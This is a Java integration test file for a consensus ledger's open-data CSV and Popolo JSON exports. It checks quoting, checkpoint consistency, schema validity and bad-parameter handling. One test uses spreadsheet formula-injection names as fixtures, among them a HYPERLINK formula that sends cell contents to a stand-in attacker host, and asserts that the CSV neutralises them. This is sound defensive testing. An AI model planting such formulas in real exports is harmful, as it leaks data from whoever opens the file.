package org.consensusledger.query.opendata;

import com.fasterxml.jackson.databind.JsonNode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.consensusledger.events.AdmissionPath;
import org.consensusledger.events.BodyKind;
import org.consensusledger.events.Disposition;
import org.consensusledger.events.Dissent;
import org.consensusledger.events.GroupTally;
import org.consensusledger.events.MeetingFormat;
import org.consensusledger.events.StakeholderGroup;
import org.consensusledger.events.body.BodyEstablished;
import org.consensusledger.events.body.CoChairAppointed;
import org.consensusledger.events.body.MemberAdmitted;
import org.consensusledger.events.body.MemberWithdrawn;
import org.consensusledger.events.meeting.MeetingCancelled;
import org.consensusledger.events.meeting.MeetingClosed;
import org.consensusledger.events.meeting.MeetingOpened;
import org.consensusledger.events.meeting.MeetingScheduled;
import org.consensusledger.events.organisation.OrganisationRegistered;
import org.consensusledger.events.proposal.ConsensusCallOpened;
import org.consensusledger.events.proposal.ObjectionAddressed;
import org.consensusledger.events.proposal.ObjectionRaised;
import org.consensusledger.events.proposal.ProposalDeferred;
import org.consensusledger.events.proposal.ProposalSubmitted;
import org.consensusledger.events.proposal.ProposalWithdrawn;
import org.consensusledger.events.proposal.RoughConsensusDeclared;
import org.consensusledger.events.proposal.StandAsideRecorded;
import org.consensusledger.events.proposal.SupportExpressed;
import org.consensusledger.query.web.QueryApiTest;
import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationListener;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.web.context.support.ServletRequestHandledEvent;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Predicate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The open-data exports: every CSV loads with a CSV parser, with its columns and rows, recorded texts whole (quotes,
 * commas, line breaks, non-ASCII); the Popolo export validates against the Popolo project's schemas; every export
 * names the signed checkpoint it was made at and holds nothing after it; wrong parameters are problems, not errors;
 * a text a spreadsheet would take for a formula is neutralised in the CSV; a download logs no error.
 */
class OpenDataExportsTest extends QueryApiTest {

    @Autowired
    private ConfigurableApplicationContext context;

    static final Instant AT = Instant.parse("2026-03-04T09:30:00Z");
    /** A recorded text with everything CSV must quote, a line break, and non-ASCII letters. */
    static final String HOSTILE = "Données \"ouvertes\", à l'échelle;\r\nmais pas de données personnelles — 個人";

    private String run;
    private String body;
    private String gov;
    private String cso;
    private String decided;
    private String deferred;
    private String withdrawn;
    private String meeting;
    private String cancelled;

    @BeforeEach
    void aBodyWithDecisionsDeferralsAndWithdrawals() {
        run = UUID.randomUUID().toString().substring(0, 8);
        body = "od-wg-" + run;
        gov = "od-gov-" + run;
        cso = "od-cso-" + run;
        decided = "od-p1-" + run;
        deferred = "od-p2-" + run;
        withdrawn = "od-p3-" + run;
        meeting = "od-m1-" + run;
        cancelled = "od-m2-" + run;
        append("Organisation", gov, new OrganisationRegistered(gov, "Ministère \"Numérique\", Genève",
                                                               StakeholderGroup.GOVERNMENT, "CH"));
        append("Organisation", cso, new OrganisationRegistered(cso, "Open Rights", StakeholderGroup.CIVIL_SOCIETY,
                                                               null));
        append("Body", body, new BodyEstablished(body, "Données " + run, BodyKind.WORKING_GROUP, null,
                                                 "Draft the policy,\nthen \"publish\" it"));
        append("Body", body, new MemberAdmitted(body, gov, StakeholderGroup.GOVERNMENT, AdmissionPath.BY_SECRETARIAT,
                                                null, null));
        append("Body", body, new MemberAdmitted(body, cso, StakeholderGroup.CIVIL_SOCIETY, AdmissionPath.ON_REQUEST,
                                                cso, gov));
        append("Body", body, new CoChairAppointed(body, gov));
        append("Meeting", meeting, new MeetingScheduled(meeting, body, "Session, one", AT, MeetingFormat.HYBRID,
                                                        "Genève"));
        append("Meeting", cancelled, new MeetingScheduled(cancelled, body, "Session two", AT.plus(Duration.ofDays(7)),
                                                          MeetingFormat.VIRTUAL, null));
        append("Meeting", cancelled, new MeetingCancelled(cancelled, body, gov, "No quorum"));
        append("Meeting", meeting, new MeetingOpened(meeting, body, gov, AT));
        append("Proposal", decided, new ProposalSubmitted(decided, body, cso, "Open data, \"now\"", HOSTILE, "sha1",
                                                          meeting, AT));
        append("Proposal", decided, new SupportExpressed(decided, body, cso, StakeholderGroup.CIVIL_SOCIETY, 1,
                                                         HOSTILE, meeting, AT));
        append("Proposal", decided, new ObjectionRaised(decided, body, "od-o1-" + run, gov,
                                                        StakeholderGroup.GOVERNMENT, 1, "Coût, \"énorme\"\nvraiment",
                                                        meeting, AT));
        append("Proposal", decided, new ObjectionAddressed(decided, body, "od-o1-" + run, Disposition.NOT_ACCOMMODATED,
                                                           null, "Le coût est faible", gov, meeting, AT));
        append("Proposal", decided, new ConsensusCallOpened(decided, body, 1, AT.plus(Duration.ofDays(3)), gov,
                                                            meeting, AT));
        append("Proposal", decided, new RoughConsensusDeclared(
                decided, body, 1, "sha1", "Objection addressed",
                List.of(new Dissent("od-o1-" + run, gov, StakeholderGroup.GOVERNMENT, "Coût", "Le coût est faible")),
                List.of(new GroupTally(StakeholderGroup.GOVERNMENT, 0, 0, 0, 1),
                        new GroupTally(StakeholderGroup.CIVIL_SOCIETY, 1, 0, 0, 0)), gov, meeting, AT));
        append("Proposal", deferred, new ProposalSubmitted(deferred, body, gov, "Later", "Text", "sha", meeting, AT));
        append("Proposal", deferred, new StandAsideRecorded(deferred, body, cso, StakeholderGroup.CIVIL_SOCIETY, 1,
                                                            "Not ours", meeting, AT));
        append("Proposal", deferred, new ProposalDeferred(deferred, body, 1, "Needs a study", gov, meeting, AT));
        append("Proposal", withdrawn, new ProposalSubmitted(withdrawn, body, cso, "Gone", "Text", "sha", meeting, AT));
        append("Proposal", withdrawn, new ProposalWithdrawn(withdrawn, body, cso, "Merged elsewhere", meeting, AT));
        append("Body", body, new MemberWithdrawn(body, cso, "Left, sadly"));
        append("Meeting", meeting, new MeetingClosed(meeting, body, gov, AT.plus(Duration.ofHours(2)), null));
    }

    @Test
    void everyCsvLoadsWithItsColumnsAndTheRecordedTextsWhole() {
        List<CSVRecord> memberships = awaitCsv("memberships", rows -> rows.stream().anyMatch(
                row -> row.get("organisation_id").equals(cso) && !row.get("ended_at").isEmpty()));
        assertThat(rowsOf(memberships, "body_id", body)).extracting(r -> r.get("organisation_id") + " "
                + r.get("role") + " " + r.get("admission") + " " + r.get("end_reason"))
                .containsExactly(gov + " member by_secretariat ", cso + " member on_request Left, sadly",
                                 gov + " co-chair  ");

        HttpResponse<String> response = get("/api/open-data/organisations.csv");
        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
                type -> assertThat(type).startsWith("text/csv").contains("charset=UTF-8"));
        assertThat(response.headers().firstValue("Ledger-Tree-Size")).isPresent();
        CSVRecord organisation = rowsOf(parse(response.body()), "organisation_id", gov).get(0);
        assertThat(organisation.get("name")).isEqualTo("Ministère \"Numérique\", Genève");
        assertThat(organisation.get("stakeholder_group")).isEqualTo("government");
        assertThat(organisation.get("country")).isEqualTo("CH");
        assertThat(Instant.parse(organisation.get("registered_at"))).isNotNull();

        CSVRecord theBody = rowsOf(csv("bodies"), "body_id", body).get(0);
        assertThat(theBody.get("mandate")).isEqualTo("Draft the policy,\nthen \"publish\" it");
        assertThat(theBody.get("kind")).isEqualTo("working_group");

        assertThat(rowsOf(csv("meetings"), "body_id", body)).extracting(
                r -> r.get("title") + "|" + r.get("status") + "|" + r.get("starts_at") + "|" + r.get("location"))
                .containsExactlyInAnyOrder("Session, one|closed|2026-03-04T09:30:00Z|Genève",
                                           "Session two|cancelled|2026-03-11T09:30:00Z|");

        assertThat(rowsOf(csv("proposals"), "body_id", body)).extracting(
                r -> r.get("proposal_id") + " " + r.get("status") + " " + r.get("latest_outcome"))
                .containsExactlyInAnyOrder(decided + " decided rough_consensus", deferred + " deferred deferred",
                                           withdrawn + " withdrawn ");
        assertThat(rowsOf(csv("proposal-versions"), "proposal_id", decided).get(0).get("text")).isEqualTo(HOSTILE);

        assertThat(rowsOf(csv("outcomes"), "body_id", body)).extracting(
                r -> r.get("proposal_id") + " " + r.get("outcome") + " " + r.get("dissent") + " " + r.get("rationale"))
                .containsExactlyInAnyOrder(decided + " rough_consensus 1 Objection addressed",
                                           deferred + " deferred 0 Needs a study",
                                           withdrawn + " withdrawn 0 Merged elsewhere");

        List<CSVRecord> positions = rowsOf(csv("positions"), "proposal_id", decided);
        assertThat(positions).extracting(r -> r.get("organisation_id") + " " + r.get("position") + " "
                + r.get("disposition")).containsExactlyInAnyOrder(cso + " support ", gov + " objection not_accommodated");
        assertThat(rowsOf(positions, "position", "support").get(0).get("text")).isEqualTo(HOSTILE);
        CSVRecord objection = rowsOf(positions, "position", "objection").get(0);
        assertThat(objection.get("text")).isEqualTo("Coût, \"énorme\"\nvraiment");
        assertThat(objection.get("disposition_reasons")).isEqualTo("Le coût est faible");
        assertThat(rowsOf(csv("positions"), "proposal_id", deferred)).extracting(r -> r.get("position"))
                .containsExactly("stand_aside");
    }

    @Test
    void everyExportNamesTheSignedCheckpointItWasMadeAtAndHoldsNothingAfterIt() {
        awaitCsv("meetings", rows -> rows.stream().anyMatch(r -> r.get("meeting_id").equals(meeting)
                && r.get("status").equals("closed")));
        HttpResponse<String> bodies = get("/api/open-data/bodies.csv");
        String size = bodies.headers().firstValue("Ledger-Tree-Size").orElseThrow();
        CSVRecord checkpoint = csv("checkpoint", "?at=" + size).get(0);
        assertThat(checkpoint.get("tree_size")).isEqualTo(size);
        assertThat(Long.parseLong(checkpoint.get("log_position"))).isEqualTo(Long.parseLong(size) - 1);
        assertThat(checkpoint.get("signed_note")).startsWith(checkpoint.get("origin") + "\n" + size + "\n"
                                                                     + checkpoint.get("root_hash") + "\n");
        JsonNode popolo = json(get("/api/open-data/popolo.json?at=" + size));
        assertThat(popolo.path("checkpoint").path("tree_size").asLong()).isEqualTo(Long.parseLong(size));
        assertThat(popolo.path("checkpoint").path("signed_note").asText()).isEqualTo(checkpoint.get("signed_note"));

        // A body established after that checkpoint is in the next exports, never in those made at it.
        String later = "od-later-" + run;
        append("Body", later, new BodyEstablished(later, "Later " + run, BodyKind.PLENARY, null, "Later"));
        awaitCsv("bodies", rows -> !rowsOf(rows, "body_id", later).isEmpty());
        assertThat(rowsOf(csv("bodies", "?at=" + size), "body_id", later)).isEmpty();
        assertThat(rowsOf(csv("bodies", "?at=" + size), "body_id", body)).hasSize(1);
        assertThat(get("/api/open-data/popolo.json?at=" + size).body()).doesNotContain(later);
    }

    @Test
    void aTextASpreadsheetWouldTakeForAFormulaIsNeutralisedInTheCsvAndExactInThePopoloDocument() {
        String formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")";
        List<String> names = List.of(formula, "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn", "'quoted");
        for (int i = 0; i < names.size(); i++) {
            append("Organisation", "od-f" + i + "-" + run, new OrganisationRegistered(
                    "od-f" + i + "-" + run, names.get(i), StakeholderGroup.ACADEMIA, null));
        }
        List<CSVRecord> organisations = awaitCsv("organisations", rows -> rows.stream().anyMatch(
                row -> row.get("organisation_id").equals("od-f" + (names.size() - 1) + "-" + run)));
        for (int i = 0; i < names.size(); i++) {
            assertThat(rowsOf(organisations, "organisation_id", "od-f" + i + "-" + run).get(0).get("name"))
                    .isEqualTo("'" + names.get(i));
        }
        assertThat(rowsOf(organisations, "organisation_id", gov).get(0).get("name"))
                .isEqualTo("Ministère \"Numérique\", Genève"); // nothing to neutralise: as recorded
        JsonNode popolo = json(get("/api/open-data/popolo.json"));
        assertThat(find(popolo.path("organizations"), "id", "od-f0-" + run).path("name").asText()).isEqualTo(formula);
    }

    @Test
    void aCsvDownloadLogsNoError() {
        awaitCsv("organisations", rows -> !rowsOf(rows, "organisation_id", cso).isEmpty()); // a checkpoint is signed
        ListAppender<ILoggingEvent> logged = new ListAppender<>();
        logged.start();
        Logger root = (Logger) LoggerFactory.getLogger(Logger.ROOT_LOGGER_NAME);
        List<ServletRequestHandledEvent> handled = new CopyOnWriteArrayList<>();
        ApplicationListener<ServletRequestHandledEvent> listener = handled::add;
        root.addAppender(logged);
        context.addApplicationListener(listener);
        try {
            HttpResponse<String> response = get("/api/open-data/bodies.csv");
            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(parse(response.body())).isNotEmpty();
            // Spring says a request was handled once all of it is done, its exception handling included.
            await().atMost(Duration.ofSeconds(30)).until(() -> handled.stream().anyMatch(
                    event -> event.getRequestUrl().endsWith("/bodies.csv")));
            ServletRequestHandledEvent event = handled.stream().filter(
                    e -> e.getRequestUrl().endsWith("/bodies.csv")).findFirst().orElseThrow();
            assertThat(event.getFailureCause()).isNull();
            synchronized (logged) {
                assertThat(logged.list).filteredOn(e -> e.getLevel().isGreaterOrEqual(Level.ERROR)).isEmpty();
            }
        } finally {
            context.removeApplicationListener(listener);
            root.detachAppender(logged);
        }
    }

    @Test
    void thePopoloExportValidatesAgainstThePopoloSchemas() {
        awaitCsv("outcomes", rows -> rowsOf(rows, "body_id", body).size() == 3);
        JsonNode popolo = json(get("/api/open-data/popolo.json"));
        PopoloSchemas schemas = new PopoloSchemas();
        Map<String, String> schemaOf = Map.of("organizations", "organization", "memberships", "membership",
                                              "events", "event", "motions", "motion", "vote_events", "vote_event");
        int validated = 0;
        for (Map.Entry<String, String> list : schemaOf.entrySet()) {
            assertThat(popolo.path(list.getKey()).isArray()).as(list.getKey()).isTrue();
            for (JsonNode item : popolo.path(list.getKey())) {
                assertThat(schemas.errors(list.getValue(), item)).as(list.getKey() + " " + item).isEmpty();
                for (JsonNode vote : item.path("votes")) {
                    assertThat(schemas.errors("vote", vote)).as(vote.toString()).isEmpty();
                }
                for (JsonNode count : item.path("counts")) {
                    assertThat(schemas.errors("count", count)).as(count.toString()).isEmpty();
                }
                validated++;
            }
        }
        assertThat(validated).isGreaterThan(10);

        JsonNode voteEvent = find(popolo.path("vote_events"), "id", decided + "/v1/outcome/1");
        assertThat(voteEvent.path("motion_id").asText()).isEqualTo(decided + "/v1");
        assertThat(voteEvent.path("result").asText()).isEqualTo("rough_consensus");
        assertThat(voteEvent.path("votes").toString()).contains("\"voter_id\":\"" + gov + "\",\"option\":\"objection\"")
                                                      .contains("\"disposition\":\"not_accommodated\"");
        assertThat(voteEvent.path("counts").toString()).contains("{\"option\":\"objection\",\"value\":1,"
                                                                         + "\"group_id\":\"government\"}");
        assertThat(find(popolo.path("motions"), "id", withdrawn + "/v1").path("result").asText())
                .isEqualTo("withdrawn");
        assertThat(find(popolo.path("events"), "id", cancelled).path("status").asText()).isEqualTo("cancelled");
        assertThat(find(popolo.path("organizations"), "id", body).path("classification").asText())
                .isEqualTo("working_group");
    }

    @Test
    void theSchemasRefuseWhatPopoloDoesNotAllow() {
        PopoloSchemas schemas = new PopoloSchemas();
        assertThat(schemas.errors("count", json("{\"option\":\"support\"}"))).isNotEmpty(); // value is required
        assertThat(schemas.errors("membership", json("{\"start_date\":\"yesterday\"}"))).isNotEmpty();
        assertThat(schemas.errors("vote_event", json("{\"counts\":[{\"option\":1,\"value\":2}]}"))).isNotEmpty();
        assertThat(schemas.errors("count", json("{\"option\":\"support\",\"value\":2}"))).isEmpty();
    }

    @Test
    void wrongParametersAreProblemsNeverFailures() {
        assertProblem(get("/api/open-data/ballots.csv"), 404);
        assertProblem(get("/api/open-data/bodies.csv?at=123456789012"), 404);
        assertProblem(get("/api/open-data/bodies.csv?at=0"), 400);
        assertProblem(get("/api/open-data/bodies.csv?at=-1"), 400);
        assertProblem(get("/api/open-data/popolo.json?at=abc"), 400);
        assertProblem(get("/api/open-data/popolo.json?at=99999999999999999999999"), 400);
        assertProblem(get("/api/open-data/" + "x".repeat(50) + ".csv"), 400);
        assertProblem(get("/api/open-data/%E2%80%AE%00.csv"), 400, 404);
        JsonNode index = json(get("/api/open-data"));
        assertThat(index.path("datasets").findValuesAsText("name"))
                .containsExactly("checkpoint", "bodies", "organisations", "memberships", "meetings", "proposals",
                                 "proposal-versions", "outcomes", "positions");
    }

    private void assertProblem(HttpResponse<String> response, Integer... statuses) {
        assertThat(response.statusCode()).as(response.uri() + " " + response.body()).isIn((Object[]) statuses);
        assertThat(response.headers().firstValue("Content-Type")).as(response.uri().toString())
                                                                .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
    }

    private static JsonNode find(JsonNode list, String field, String value) {
        for (JsonNode item : list) {
            if (item.path(field).asText().equals(value)) {
                return item;
            }
        }
        throw new AssertionError("No " + field + " " + value + " in " + list);
    }

    private List<CSVRecord> awaitCsv(String dataset, Predicate<List<CSVRecord>> ready) {
        List<List<CSVRecord>> found = new ArrayList<>();
        await().atMost(Duration.ofSeconds(30)).until(() -> {
            HttpResponse<String> response = get("/api/open-data/" + dataset + ".csv");
            if (response.statusCode() != 200) {
                return false;
            }
            found.add(0, parse(response.body()));
            return ready.test(found.get(0));
        });
        return found.get(0);
    }

    private List<CSVRecord> csv(String dataset) {
        return csv(dataset, "");
    }

    private List<CSVRecord> csv(String dataset, String query) {
        HttpResponse<String> response = get("/api/open-data/" + dataset + ".csv" + query);
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        return parse(response.body());
    }

    static List<CSVRecord> rowsOf(List<CSVRecord> rows, String column, String value) {
        return rows.stream().filter(row -> row.get(column).equals(value)).toList();
    }

    /** Parsed as RFC 4180 with its header row; every record has exactly the header's columns. */
    static List<CSVRecord> parse(String text) {
        CSVFormat format = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
        try (CSVParser parser = CSVParser.parse(new StringReader(text), format)) {
            List<CSVRecord> records = parser.getRecords();
            for (CSVRecord record : records) {
                assertThat(record.isConsistent()).as(record.toString()).isTrue();
            }
            return records;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
